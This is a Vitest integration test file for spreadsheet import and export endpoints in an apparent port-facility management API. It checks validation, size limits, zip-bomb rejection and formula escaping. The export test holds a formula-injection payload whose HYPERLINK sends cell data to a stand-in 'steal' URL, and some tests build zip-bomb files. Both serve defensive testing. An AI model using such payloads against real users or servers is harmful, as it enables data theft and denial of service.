import { setTimeout as pause } from 'node:timers/promises';
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  FACILITY_IMPORT_COLUMNS,
  IMPORT_MAX_BYTES,
  IMPORT_MAX_ROWS,
  IMPORT_PROGRESS_TYPE,
  PORT_IMPORT_COLUMNS,
  TRAFFIC_IMPORT_COLUMNS,
  importEventSchema,
  type ImportReport,
} from '../../contracts/index.ts';
import { createTestApp, dbAvailable, login, type Agent, type TestApp } from './helpers.ts';
import {
  bombXlsx,
  handWrittenXlsx,
  largeWorkbook,
  multipartFile,
  sheetRowXml,
  workbook,
  xlsxUpload,
  type Upload,
} from './xlsx-upload.ts';

type ErrorReply = { error: { code: string; fields?: Record<string, string> } };

const count = async (
  t: TestApp,
  table: 'facilities' | 'facilityCertifications' | 'ports' | 'traffic' | 'auditLog',
) =>
  Number(
    (
      await t.ctx.db
        .selectFrom(table)
        .select((eb) => eb.fn.countAll<number>().as('n'))
        .executeTakeFirstOrThrow()
    ).n,
  );

const upload = (agent: Agent, url: string, file: Upload, headers: Record<string, string> = {}) =>
  agent.post(url, file.payload, { 'content-type': file.contentType, ...headers });

/** Five times the row limit and one more, made once for the file: a valid traffic sheet the import must refuse without reading it all. */
let oversized: Promise<Buffer> | null = null;
const oversizedTraffic = () =>
  (oversized ??= largeWorkbook(TRAFFIC_IMPORT_COLUMNS, IMPORT_MAX_ROWS * 5 + 1, (i) => [
    'P-SEA-WEST',
    'GRAIN',
    2000 + (i % 26),
    1 + (i % 12),
    'tonnes',
    i,
  ]));

const facilityRow = (
  port: string,
  type: string,
  quantity: number | string = 1,
  cert: [string, string, string] | null = null,
) => [
  port,
  type,
  '原木处理区',
  quantity,
  100,
  '2026-10-01',
  'in_service',
  null,
  cert?.[0] ?? null,
  cert?.[1] ?? null,
  cert?.[2] ?? null,
  null,
];

describe.skipIf(!dbAvailable)('imports', () => {
  let t: TestApp;
  let officer: Agent;
  beforeEach(async () => {
    t = await createTestApp();
    officer = await login(t, 'branch.harbour');
  });
  afterEach(async () => t.close());

  describe('facilities.import', () => {
    it('reports a bad row by row and column and applies nothing; the fixed file applies every row', async () => {
      const before = {
        facilities: await count(t, 'facilities'),
        audit: await count(t, 'auditLog'),
      };
      const rows = [
        facilityRow('P-SEA-WEST', 'HEAT_TREATMENT_KILN', 1, [
          '示例直属海关',
          '2026-11-01',
          '2027-10-31',
        ]),
        facilityRow('P-SEA-WEST', 'HARMLESS_DISPOSAL', 'two'),
        facilityRow('P-SEA-LOGS', 'TELEPORTER', 1),
        facilityRow('P-AIR-INTL', 'COLD_STORE', 1),
        facilityRow('P-SEA-LOGS', 'FUMIGATION_CHAMBER', 1, [
          '示例直属海关',
          '2026-11-01',
          '2026-10-01',
        ]),
      ];
      const bad = await upload(
        officer,
        '/api/v1/facilities/import',
        await xlsxUpload(FACILITY_IMPORT_COLUMNS, rows),
      );
      expect(bad.statusCode, bad.body).toBe(422);
      const report = bad.json<ImportReport>();
      expect(report.applied).toBe(0);
      expect(report.problems.map((p) => `${p.row}:${p.column}`)).toEqual([
        '3:quantity',
        '4:typeCode',
        '5:portCode',
        '6:certExpiryDate',
      ]);
      expect(report.problems.every((p) => p.message.length > 0)).toBe(true);
      expect({
        facilities: await count(t, 'facilities'),
        audit: await count(t, 'auditLog'),
      }).toEqual(before);

      const fixed = [
        rows[0],
        facilityRow('P-SEA-WEST', 'HARMLESS_DISPOSAL', 2),
        facilityRow('P-SEA-LOGS', 'COLD_STORE', 1),
      ].flatMap((r) => (r ? [r] : []));
      const ok = await upload(
        officer,
        '/api/v1/facilities/import',
        await xlsxUpload(FACILITY_IMPORT_COLUMNS, fixed),
      );
      expect(ok.statusCode, ok.body).toBe(200);
      expect(ok.json<ImportReport>()).toEqual({ applied: 3, problems: [] });
      expect(await count(t, 'facilities')).toBe(before.facilities + 3);
      const actions = await t.ctx.db
        .selectFrom('auditLog')
        .select('action')
        .where('seq', '>', 0)
        .orderBy('seq', 'desc')
        .limit(1)
        .execute();
      expect(actions.map((a) => a.action)).toEqual(['facility.import']);
    });

    it('streams progress while it checks and writes a large sheet, ending with the report, when asked for NDJSON', async () => {
      const rows = Array.from({ length: 1200 }, (_, i) =>
        facilityRow(i % 2 === 0 ? 'P-SEA-WEST' : 'P-SEA-LOGS', 'COLD_STORE', 1 + (i % 3)),
      );
      const file = await xlsxUpload(FACILITY_IMPORT_COLUMNS, rows);
      const res = await officer.post('/api/v1/facilities/import', file.payload, {
        'content-type': file.contentType,
        accept: IMPORT_PROGRESS_TYPE,
      });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toContain(IMPORT_PROGRESS_TYPE);
      const events = res.body
        .trim()
        .split('\n')
        .map((line) => importEventSchema.parse(JSON.parse(line)));
      const checking = events.filter((e) => e.type === 'progress' && e.phase === 'checking');
      const writing = events.filter((e) => e.type === 'progress' && e.phase === 'writing');
      expect(checking.length).toBeGreaterThanOrEqual(4);
      expect(checking.at(-1)).toMatchObject({ done: 1200, total: 1200 });
      expect(writing.at(-1)).toMatchObject({ done: 1200, total: 1200 });
      expect(events.at(-1)).toEqual({
        type: 'report',
        status: 200,
        report: { applied: 1200, problems: [] },
      });

      const bad = await xlsxUpload(FACILITY_IMPORT_COLUMNS, [
        facilityRow('P-SEA-WEST', 'TELEPORTER', 1),
      ]);
      const refused = await officer.post('/api/v1/facilities/import', bad.payload, {
        'content-type': bad.contentType,
        accept: IMPORT_PROGRESS_TYPE,
      });
      const last = importEventSchema.parse(
        JSON.parse(refused.body.trim().split('\n').at(-1) ?? '{}'),
      );
      expect(last).toMatchObject({ type: 'report', status: 422, report: { applied: 0 } });
    });

    it('refuses a file that is not xlsx (415), one over the size limit (413), a wrong header (422) and a JSON body', async () => {
      const xlsx = await workbook(FACILITY_IMPORT_COLUMNS, [
        facilityRow('P-SEA-WEST', 'COLD_STORE'),
      ]);
      const csv = await upload(
        officer,
        '/api/v1/facilities/import',
        multipartFile(Buffer.from('portCode,typeCode\n'), 'ledger.csv', 'text/csv'),
      );
      expect(csv.statusCode).toBe(415);
      expect(csv.json<ErrorReply>().error.code).toBe('IMPORT_NOT_XLSX');
      const renamed = await upload(
        officer,
        '/api/v1/facilities/import',
        multipartFile(Buffer.from('not a zip at all'), 'ledger.xlsx'),
      );
      expect(renamed.statusCode).toBe(415);
      const big = await upload(
        officer,
        '/api/v1/facilities/import',
        multipartFile(Buffer.concat([xlsx, Buffer.alloc(IMPORT_MAX_BYTES)]), 'big.xlsx'),
      );
      expect(big.statusCode).toBe(413);
      expect(big.json<ErrorReply>().error.code).toBe('IMPORT_TOO_LARGE');
      const header = await upload(
        officer,
        '/api/v1/facilities/import',
        await xlsxUpload(['portCode', 'typeCode'], [['P-SEA-WEST', 'COLD_STORE']]),
      );
      expect(header.statusCode).toBe(422);
      expect(header.json<ErrorReply>().error).toMatchObject({
        code: 'IMPORT_HEADER_INVALID',
        fields: { header: expect.stringContaining('functionalArea') },
      });
      const json = await officer.post('/api/v1/facilities/import', { rows: [] });
      expect(json.statusCode).toBe(400);
      const empty = await upload(
        officer,
        '/api/v1/facilities/import',
        await xlsxUpload(FACILITY_IMPORT_COLUMNS, []),
      );
      expect(empty.statusCode).toBe(422);
    });

    it('serves a template whose header row is the column keys', async () => {
      const before = await count(t, 'facilities');
      const res = await officer.get('/api/v1/facilities/import/template');
      expect(res.statusCode).toBe(200);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(new Uint8Array(res.rawPayload).buffer);
      const header = book.worksheets[0]?.getRow(1).values;
      expect(Array.isArray(header) ? header.slice(1) : []).toEqual([...FACILITY_IMPORT_COLUMNS]);
      // The example lives on the explanation sheet: the template as downloaded imports nothing.
      expect(book.worksheets[0]?.actualRowCount).toBe(1);
      const unedited = await upload(
        officer,
        '/api/v1/facilities/import',
        multipartFile(Buffer.from(res.rawPayload), 'template.xlsx'),
      );
      expect(unedited.statusCode).toBe(422);
      expect(await count(t, 'facilities')).toBe(before);
    });
  });

  describe('reading a workbook', () => {
    it('refuses a zip bomb from its directory, and one whose sizes lie as soon as it inflates past them (413)', async () => {
      const before = await count(t, 'facilities');
      const en = { 'accept-language': 'en' };
      // Like the probe's: about 150 KB that inflate to 150 MiB, declared honestly.
      const honest = await upload(
        officer,
        '/api/v1/facilities/import',
        multipartFile(bombXlsx(FACILITY_IMPORT_COLUMNS, 150), 'bomb.xlsx'),
        en,
      );
      expect(honest.statusCode, honest.body).toBe(413);
      expect(honest.json<ErrorReply>().error).toMatchObject({
        code: 'IMPORT_TOO_LARGE',
        fields: { file: expect.stringContaining('inflates past') },
      });
      const ratio = await upload(
        officer,
        '/api/v1/facilities/import',
        multipartFile(bombXlsx(FACILITY_IMPORT_COLUMNS, 50), 'bomb.xlsx'),
        en,
      );
      expect(ratio.statusCode).toBe(413);
      expect(ratio.json<ErrorReply>().error.fields?.file).toContain('zip bomb');
      // The same bytes declaring a 512 KiB sheet: the directory passes, the inflation stops at 512 KiB + 1 byte.
      const lying = await upload(
        officer,
        '/api/v1/facilities/import',
        multipartFile(bombXlsx(FACILITY_IMPORT_COLUMNS, 150, 512 * 1024), 'bomb.xlsx'),
      );
      expect(lying.statusCode, lying.body).toBe(413);
      expect(lying.json<ErrorReply>().error).toMatchObject({
        code: 'IMPORT_TOO_LARGE',
        fields: { file: '解压后的内容超过其声明的大小' },
      });
      expect(await count(t, 'facilities')).toBe(before);
    });

    it(`stops at row ${IMPORT_MAX_ROWS + 1} of a ${IMPORT_MAX_ROWS * 5 + 1}-row workbook and answers 413`, async () => {
      const before = await count(t, 'traffic');
      const res = await upload(
        officer,
        '/api/v1/traffic/import',
        multipartFile(await oversizedTraffic(), 'traffic.xlsx'),
      );
      expect(res.statusCode, res.body).toBe(413);
      expect(res.json<ErrorReply>().error.code).toBe('IMPORT_TOO_MANY_ROWS');
      expect(await count(t, 'traffic')).toBe(before);
    });

    it('answers /healthz while a workbook is being read', async () => {
      let settled = false;
      const importing = upload(
        officer,
        '/api/v1/traffic/import',
        multipartFile(await oversizedTraffic(), 'traffic.xlsx'),
      ).finally(() => (settled = true));
      const health: number[] = [];
      do {
        health.push((await t.app.inject({ method: 'GET', url: '/healthz' })).statusCode);
        // An injected request may complete without giving I/O a turn; the pause lets the upload move on.
        await pause(10);
      } while (!settled);
      expect(health.length).toBeGreaterThan(0);
      expect(health.every((status) => status === 200)).toBe(true);
      expect((await importing).statusCode).toBe(413);
    });

    it('names each cell holding a lone surrogate or NUL as a row problem, and refuses such a header (400)', async () => {
      const row = (n: number, area: string, notes: string) =>
        sheetRowXml(
          n,
          [
            'P-SEA-WEST',
            'COLD_STORE',
            area,
            '1',
            '100',
            '2026-10-01',
            'in_service',
            notes,
            null,
            null,
            null,
            null,
          ],
          false,
        );
      // `_x0000_` is how SpreadsheetML writes a character XML cannot carry; `&#xD800;` is a reference to half a surrogate pair.
      const sheet =
        sheetRowXml(1, FACILITY_IMPORT_COLUMNS) +
        row(2, '冷链查验区', 'NUL_x0000_here') +
        row(3, '坏&#xD800;区', 'ok') +
        row(4, '冷链查验区', 'fine');
      const res = await upload(
        officer,
        '/api/v1/facilities/import',
        multipartFile(handWrittenXlsx(sheet)),
        { 'accept-language': 'en' },
      );
      expect(res.statusCode, res.body).toBe(422);
      expect(res.json<ImportReport>()).toEqual({
        applied: 0,
        problems: [
          { row: 2, column: 'notes', message: 'must not contain NUL characters' },
          {
            row: 3,
            column: 'functionalArea',
            message: 'holds an invalid Unicode character (a lone surrogate)',
          },
        ],
      });
      const header = await upload(
        officer,
        '/api/v1/facilities/import',
        multipartFile(
          handWrittenXlsx(sheetRowXml(1, [...FACILITY_IMPORT_COLUMNS, 'x&#0;'], false)),
        ),
      );
      expect(header.statusCode).toBe(400);
      expect(header.json<ErrorReply>().error).toMatchObject({
        code: 'VALIDATION_FAILED',
        fields: { header: expect.any(String) },
      });
    });
  });

  describe('ports.export', () => {
    it('exports text that would read as a formula with a leading quote, and numbers as numbers', async () => {
      const formula = '=HYPERLINK("http://example.com/steal?d="&A1,"点击查看")';
      const port = [
        'P-SEA-FORMULA',
        'BR-HARBOUR',
        '+口岸',
        formula,
        'sea',
        'II',
        '440000',
        '440300',
        22.5,
        113.9,
        'planned',
        null,
      ];
      const imported = await upload(
        officer,
        '/api/v1/ports/import',
        await xlsxUpload(PORT_IMPORT_COLUMNS, [port]),
      );
      expect(imported.json<ImportReport>()).toEqual({ applied: 1, problems: [] });
      const res = await officer.get('/api/v1/ports/export?q=FORMULA');
      expect(res.statusCode).toBe(200);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(new Uint8Array(res.rawPayload).buffer);
      const exported = book.worksheets[0]?.getRow(2);
      expect(exported?.getCell(1).value).toBe('P-SEA-FORMULA');
      expect(exported?.getCell(2).value).toBe("'+口岸");
      expect(exported?.getCell(3).value).toBe(`'${formula}`);
      expect(exported?.getCell(3).type).toBe(ExcelJS.ValueType.String);
      expect(exported?.getCell(9).value).toBe(22.5);
    });
  });

  describe('ports.import', () => {
    it('creates every port with its org unit, or none when a row is wrong', async () => {
      const good = [
        'P-SEA-SOUTH',
        'BR-HARBOUR',
        '南港口岸',
        'South Port',
        'sea, passenger',
        'II',
        '440000',
        '440300',
        22.5,
        113.9,
        'planned',
        null,
      ];
      const far = [
        'P-SEA-FAR',
        'BR-HARBOUR',
        '远港',
        'Far Port',
        'sea',
        'II',
        '440000',
        '440300',
        60,
        113.9,
        'planned',
        null,
      ];
      const other = [
        'P-AIR-NEW',
        'BR-AIRPORT',
        '新机场',
        'New Airport',
        'air',
        'I',
        '440000',
        '440100',
        null,
        null,
        'planned',
        null,
      ];
      const bad = await upload(
        officer,
        '/api/v1/ports/import',
        await xlsxUpload(PORT_IMPORT_COLUMNS, [good, far, other, good]),
      );
      expect(bad.statusCode).toBe(422);
      expect(bad.json<ImportReport>().problems.map((p) => `${p.row}:${p.column}`)).toEqual([
        '3:latitude',
        '4:branchCode',
        '5:code',
      ]);
      expect(await count(t, 'ports')).toBe(12);
      const ok = await upload(
        officer,
        '/api/v1/ports/import',
        await xlsxUpload(PORT_IMPORT_COLUMNS, [good]),
      );
      expect(ok.json<ImportReport>()).toEqual({ applied: 1, problems: [] });
      const list = (await officer.get('/api/v1/ports?q=SOUTH')).json<{
        items: { code: string; modes: string[] }[];
      }>();
      expect(list.items).toEqual([
        expect.objectContaining({ code: 'P-SEA-SOUTH', modes: ['sea', 'passenger'] }),
      ]);
    });
  });

  describe('traffic.import', () => {
    it('refuses a unit that does not fit the category, naming row and column; applies and updates figures otherwise', async () => {
      const before = await count(t, 'traffic');
      const bad = await upload(
        officer,
        '/api/v1/traffic/import',
        await xlsxUpload(TRAFFIC_IMPORT_COLUMNS, [
          ['P-SEA-WEST', 'GRAIN', 2026, 1, 'tonnes', 100],
          ['P-SEA-WEST', 'GRAIN', 2026, 2, 'head', 100],
        ]),
      );
      expect(bad.statusCode).toBe(422);
      expect(bad.json<ImportReport>().problems).toEqual([
        { row: 3, column: 'unit', message: expect.any(String) },
      ]);
      expect(await count(t, 'traffic')).toBe(before);
      const ok = await upload(
        officer,
        '/api/v1/traffic/import',
        await xlsxUpload(TRAFFIC_IMPORT_COLUMNS, [
          ['P-SEA-WEST', 'GRAIN', 2026, 1, 'tonnes', 100],
          ['P-SEA-WEST', 'GRAIN', 2025, null, 'tonnes', 7_000_000],
        ]),
      );
      expect(ok.json<ImportReport>()).toEqual({ applied: 2, problems: [] });
      expect(await count(t, 'traffic')).toBe(before + 1);
      const updated = await t.ctx.db
        .selectFrom('traffic')
        .select(['value', 'version'])
        .where('categoryCode', '=', 'GRAIN')
        .where('year', '=', 2025)
        .where('month', '=', 0)
        .where('value', '=', 7_000_000)
        .execute();
      expect(updated).toEqual([{ value: 7_000_000, version: 2 }]);
    });
  });
});
